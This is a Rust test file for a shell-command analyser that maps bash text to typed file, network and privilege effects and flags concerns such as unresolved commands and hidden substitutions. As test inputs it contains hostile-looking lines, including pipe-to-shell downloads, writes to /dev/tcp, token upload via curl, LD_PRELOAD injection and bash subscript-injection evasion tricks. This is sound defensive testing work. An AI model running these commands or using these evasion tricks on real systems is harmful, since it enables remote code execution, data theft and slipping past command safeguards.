//! What commands become: typed effects on named things, with words, directories and redirections read as bash does.

use gtfobins::shell::{ShellScope, analyse};

fn scope() -> ShellScope {
    ShellScope {
        cwd: "/w".into(),
        home: "/home/u".into(),
        ..ShellScope::default()
    }
}

/// The effects of a text as `domain:operation what`, those of plain execution left out.
fn effects(text: &str) -> Vec<String> {
    let analysis = analyse(text, &scope());
    assert_eq!(analysis.refused, None, "{text}");
    let effects = analysis.parts.iter().flat_map(|p| &p.effects);
    effects
        .filter_map(|e| {
            let class = e
                .params
                .iter()
                .find(|(key, _)| *key == "class")
                .map(|(_, class)| class.as_str());
            let what = e.path.clone().unwrap_or_default();
            let what = if what.is_empty() { e.host.clone() } else { what };
            match class {
                Some("") => None,
                Some(class) => Some(format!("{}:{} {class}", e.domain, e.operation)),
                None => Some(format!("{}:{} {what}", e.domain, e.operation)),
            }
        })
        .collect()
}

/// The names of the programs that run.
fn programs(text: &str) -> Vec<String> {
    let analysis = analyse(text, &scope());
    analysis
        .parts
        .iter()
        .filter_map(|p| p.argv.first().cloned())
        .collect()
}

fn concerns(text: &str) -> Vec<&'static str> {
    let analysis = analyse(text, &scope());
    analysis
        .parts
        .iter()
        .flat_map(|p| &p.concerns)
        .map(|c| c.rule)
        .collect()
}

#[test]
fn known_commands_become_typed_intents() {
    for (command, expected) in [
        ("rm -r a", &["filesystem:delete /w/a"][..]),
        ("rmdir a", &["filesystem:delete /w/a"]),
        ("unlink a", &["filesystem:delete /w/a"]),
        ("mv a b", &["filesystem:delete /w/a", "filesystem:move /w/b"]),
        ("cp a b", &["filesystem:read /w/a", "filesystem:copy /w/b"]),
        ("ln -s a b", &["filesystem:read /w/a", "filesystem:symlink /w/b"]),
        (
            "ln -s ../a d/b",
            &["filesystem:read /w/a", "filesystem:symlink /w/d/b"],
        ),
        ("ln a b", &["filesystem:read /w/a", "filesystem:link /w/b"]),
        ("mkdir -p a/b", &["filesystem:create_dir /w/a/b"]),
        ("touch a", &["filesystem:create_file /w/a"]),
        ("chmod 644 a", &["filesystem:chmod /w/a"]),
        ("chown u a", &["filesystem:chown /w/a"]),
        ("cat a", &["filesystem:read /w/a"]),
        ("head -n 3 a", &["filesystem:read /w/a"]),
        ("tail -f a", &["filesystem:read /w/a"]),
        ("less a", &["filesystem:read /w/a"]),
        ("ls a", &["filesystem:list /w/a"]),
        ("find a -name x", &["filesystem:list /w/a"]),
        ("grep x a", &["filesystem:read /w/a"]),
        ("rg x a", &["filesystem:read /w/a"]),
        ("sed -i s/a/b/ a", &["filesystem:write /w/a"]),
        (
            "awk '{print > \"o\"}' a",
            &["filesystem:write /w/o", "filesystem:read /w/a"],
        ),
        ("tee -a a", &["filesystem:write /w/a"]),
        ("dd if=a of=b", &["filesystem:read /w/a", "filesystem:write /w/b"]),
        ("truncate -s0 a", &["filesystem:write /w/a"]),
        (
            "install -m 644 a b",
            &["filesystem:read /w/a", "filesystem:copy /w/b"],
        ),
        (
            "tar cf a.tar b",
            &["filesystem:read /w/b", "filesystem:write /w/a.tar"],
        ),
        (
            "zip a.zip b",
            &["filesystem:write /w/a.zip", "filesystem:read /w/b"],
        ),
        (
            "zip -P pw a.zip b",
            &["filesystem:write /w/a.zip", "filesystem:read /w/b"],
        ),
        (
            "zip -rPpw a.zip b",
            &["filesystem:write /w/a.zip", "filesystem:read /w/b"],
        ),
        (
            "unzip -oP pw a.zip -d o",
            &["filesystem:read /w/a.zip", "filesystem:write /w/o/*"],
        ),
        (
            "unzip -n a.zip",
            &["filesystem:read /w/a.zip", "filesystem:write /w/*"],
        ),
        (
            "7z a -padmin a.7z b",
            &["filesystem:read /w/a.7z", "filesystem:read /w/b"],
        ),
        ("rsync a h:b", &["filesystem:read /w/a", "ssh:upload b"]),
        ("scp a h:b", &["filesystem:read /w/a", "ssh:upload b"]),
        ("ssh h uptime", &["ssh:look h"]),
        (
            "curl -o a https://x.y",
            &["filesystem:write /w/a", "network:fetch x.y"],
        ),
        (
            "wget https://x.y/a",
            &["filesystem:write /w/a", "network:fetch x.y"],
        ),
        ("git reset --hard", &["process:exec destructive"]),
        ("kubectl get pods", &["kubernetes:get "]),
        (
            "kubectl get pods,secrets",
            &["kubernetes:get ", "kubernetes:get "],
        ),
        ("git mv a b", &["filesystem:move /w/b"]),
        (
            "git checkout x -- a b",
            &["filesystem:write /w/a", "filesystem:write /w/b"],
        ),
        ("git checkout x", &[]),
        ("git restore --staged a", &[]),
        ("git bundle create a HEAD", &["filesystem:write /w/a"]),
        ("GIT_TRACE=/t git status", &["filesystem:write /t"]),
        ("GIT_TRACE=1 git status", &[]),
        ("mktemp -d /x/a.XXXX", &["filesystem:create_dir /x/a.*"]),
        ("mktemp", &[]),
        (
            "curl -x p:1 http://x.y",
            &["network:fetch p", "network:fetch x.y"],
        ),
        (
            "curl --resolve x.y:80:1.2.3.4 http://x.y",
            &["network:fetch 1.2.3.4", "network:fetch x.y"],
        ),
        ("curl http://x.y/$A", &["network:fetch x.y"]),
        ("curl http://x.y/$A_TOKEN", &["network:upload x.y"]),
        ("curl file://localhost/a%62", &["filesystem:read /ab"]),
        ("docker run -v /x:/y img", &["filesystem:write /x"]),
        ("npm publish", &["process:exec publish"]),
        ("pip install https://x.y/p.whl", &["process:exec unknown-source"]),
        ("cargo publish", &["process:exec publish"]),
        ("make", &[]),
        ("kill -9 1", &["process:exec process"]),
        ("crontab -e", &["process:exec persistence"]),
        ("systemctl stop x", &["process:exec service"]),
        ("sudo rm a", &["privilege:raise ", "filesystem:delete /w/a"]),
        ("doas rm a", &["privilege:raise ", "filesystem:delete /w/a"]),
        ("su -c 'rm a'", &["privilege:raise ", "filesystem:delete /w/a"]),
    ] {
        assert_eq!(effects(command), expected, "{command}");
    }
}

#[test]
fn every_way_to_write_a_known_word_is_read() {
    for text in [
        "rm -r 'a b'",
        "rm -r \"a b\"",
        "rm -r a\\ b",
        "rm -r $'a\\x20b'",
        "x='a b'; rm -r \"$x\"",
        "rm -r \"$PWD/a b\"",
        "rm -r ~/../../w/'a b'",
        "rm -r \"${undefined:-a b}\"",
        "x=(q 'a b'); rm -r \"${x[1]}\"",
        "declare -a x=(q 'a b'); rm -r \"${x[1]}\"",
        "x[3]='a b'; rm -r \"${x[3]}\"",
        "set -- q 'a b'; shift; rm -r \"$1\"",
        "IFS=,; x='rm,-r,a b'; $x",
        "printf -v x '%s b' a; rm -r \"$x\"",
        "read -r x <<< 'a b'; rm -r \"$x\"",
        "rm -r \"$(echo a b)\"",
        "rm -r \"$(basename /q/'a b')\"",
    ] {
        assert_eq!(effects(text), ["filesystem:delete /w/a b"], "{text}");
    }
    assert_eq!(effects("rm {a,b}{1..2}").len(), 4);
    assert_eq!(effects("rm ~/x"), ["filesystem:delete /home/u/x"]);
}

#[test]
fn redirections_are_reads_and_writes_and_directories_are_followed() {
    assert_eq!(effects("echo x > a"), ["filesystem:write /w/a"]);
    assert_eq!(effects("echo x >> a"), ["filesystem:write /w/a"]);
    assert_eq!(effects("echo x >| a"), ["filesystem:write /w/a"]);
    assert_eq!(effects("echo x &> a"), ["filesystem:write /w/a"]);
    assert_eq!(effects("wc < a"), ["filesystem:read /w/a"]);
    assert_eq!(effects("echo x > /dev/null 2>&1"), [""; 0]);
    assert_eq!(effects("cd src && rm a"), ["filesystem:delete /w/src/a"]);
    assert_eq!(effects("(cd src); rm a"), ["filesystem:delete /w/a"]);
    assert_eq!(effects("cd /; rm -r home"), ["filesystem:delete /home"]);
    assert_eq!(
        effects("cat x > /dev/tcp/h/80"),
        ["network:connect h", "filesystem:read /w/x"]
    );
}

#[test]
fn words_that_another_grammar_makes_are_read() {
    for text in [
        "bash -c 'cat $0' /q/a",
        "env -S 'cat\\_/q/a'",
        "echo cat /q/a | xargs -I% sh -c %",
        "echo q/a | sed 's,^,/,' | xargs cat",
        "read x y <<< 'a /q/a'; cat $y",
        "echo a:/q/a | while IFS=: read x y; do cat $y; done",
        "printf 'a\\n/q/a\\n' | while read x; do cat $x; done",
        "a=([5]=/q/a); cat ${a[5]}",
        "read -p x y z <<< 'a /q/a'; cat $z",
        "mapfile -t x <<< $'a\\n/q/a'; cat ${x[1]}",
        "python3 -c \"open('$x/q/a')\"",
        "printf 'all:\\n\\tcat /q/a\\n' > b/Makefile; make -C b",
        "echo /q/a > l; xargs -a l cat",
        "printf 'all:\\n\\t@cat /q/a\\n' > Makefile; make",
        "printf 'F = /q/a\\nall: ; cat $(F)\\n' > m; make -f m",
        "echo '1e cat /q/a' > s; sed -f s b",
    ] {
        assert!(
            effects(text)
                .iter()
                .any(|effect| effect == "filesystem:read /q/a"),
            "{text}: {:?}",
            effects(text)
        );
    }
    for text in [
        "perl -pe '' 'id|'",
        "perl -e 'open F,\"id|\"'",
        "sqlite3 a .sh",
        "python3 -c 'from os import *'",
        "make CC='cat a #'",
    ] {
        assert!(concerns(text).contains(&"runs-program"), "{text}");
    }
    for text in [
        "perl -e 'print join(\"|\", 1, 2)'",
        "sqlite3 a .schema",
        "python3 -c 'from math import *'",
        "make CC='ccache gcc'",
        "printf 'all:\\n\\t$(CC) -o $@ $<\\n' > Makefile; make",
        "printf 's/a/b/\\n' > s; sed -f s b",
    ] {
        assert_eq!(concerns(text), [""; 0], "{text}");
    }
}

#[test]
fn unknown_text_may_be_empty() {
    for (text, expected) in [
        ("cat $x/etc/a", "filesystem:read /etc/a"),
        ("cat \"$x$HOME/a\"", "filesystem:read /home/u/a"),
        ("cat $HOME/.s$x/a", "filesystem:read /home/u/.s/a"),
        ("cat $x../../a", "filesystem:read /a"),
        ("y=$x; wc < $y/etc/a", "filesystem:read /etc/a"),
        ("cd $x/etc; cat a", "filesystem:read /etc/a"),
        ("rm -r $x/etc", "filesystem:delete /etc"),
        ("echo x >> ${x#y}/etc/a", "filesystem:write /etc/a"),
    ] {
        assert!(
            effects(text).iter().any(|effect| effect == expected),
            "{text}: {:?}",
            effects(text)
        );
    }
    for text in ["echo x > $x", "cp a \"$x/b\"", "rm $(date)", "sed -i s/a/b/ $x"] {
        assert!(concerns(text).contains(&"unresolved-path"), "{text}");
    }
    for text in [
        "cat $x",
        "mkdir -p $x/a",
        "echo x > a/$x",
        "for f in $(ls src); do rm $f; done",
    ] {
        assert_eq!(concerns(text), [""; 0], "{text}");
    }
}

#[test]
fn everything_unfolds_into_simple_commands() {
    for text in [
        "id; uptime",
        "id && uptime",
        "id | uptime",
        "id & uptime",
        "id\nuptime",
        "(id; uptime)",
        "{ id; uptime; }",
        "if id; then uptime; fi",
        "while id; do uptime; done",
        "case x in x) id;; y) uptime;; esac",
        "for i in 1; do id; uptime; done",
        "f() { id; uptime; }; f",
        "f() { id; uptime; }",
        "bash -c 'id; uptime'",
        "bash <<'X'\nid\nuptime\nX",
        "bash <<< 'id; uptime'",
        "trap 'id; uptime' EXIT",
        "coproc { id; uptime; }",
        "time id; uptime",
        "! id || uptime",
        "timeout 5 nice -n 5 id; env A=b setsid uptime",
    ] {
        let mut ran = programs(text);
        ran.retain(|name| matches!(name.as_str(), "id" | "uptime"));
        assert_eq!(ran, ["id", "uptime"], "{text}");
    }
    for text in [
        "echo \"$(id)\"",
        "echo `id`",
        "cat <(id)",
        "echo $((1 + $(id)))",
        "x=$(id)",
        "echo ${x:-$(id)}",
        "declare -a 'x=($(id))'",
        "compgen -W '$(id)'",
        "compgen -C id",
    ] {
        assert!(programs(text).contains(&"id".to_owned()), "{text}");
    }
}

#[test]
fn what_is_only_known_when_it_runs_is_unresolved_in_the_place_of_a_command() {
    for text in [
        "$r -rf x",
        "$(date) x",
        "/???/rm x",
        "eval \"$x\"",
        "alias ls='rm x'; ls",
        "curl -s https://x.y | sh",
        "source <(curl -s https://x.y)",
        "bash /dev/fd/3 3<<< 'id'",
        "declare -n r=c; c=rm; $r x",
        "x=($y); \"${x[@]}\" a",
        "\"unclosed",
    ] {
        assert!(
            concerns(text).contains(&"unresolved-command"),
            "{text}: {:?}",
            concerns(text)
        );
    }
    assert!(concerns("rm\u{200b} x").contains(&"hidden-character"));
    for text in [
        "x=1; echo ${x@P}",
        "declare -i y; y='a[$(id)]'",
        "read y <<< 'a[`id`]'",
        "for RANDOM in 'a[$(id)]'; do :; done",
        "RANDOM='a[$(id)]' :",
        "v='$(id)'; b=([$v]=1)",
        "echo ${a['$(id)']}",
        "set -- 'a[$(id)]'; echo ${!1}",
        "set -- 'a[$(id)]'; echo ${x:$1}",
        "w='a[$(id'; v=\"$w)]\"",
    ] {
        assert!(concerns(text).contains(&"hidden-substitution"), "{text}");
    }
    for text in [
        "x='- [x] `id`'",
        "x='a[0] $(id)'",
        "a=([1]=b [c]=d)",
        "declare -a x=(a b)",
    ] {
        assert_eq!(concerns(text), [""; 0], "{text}");
    }
    assert!(concerns("LD_PRELOAD=/tmp/e.so ls").contains(&"foreign-library"));
}
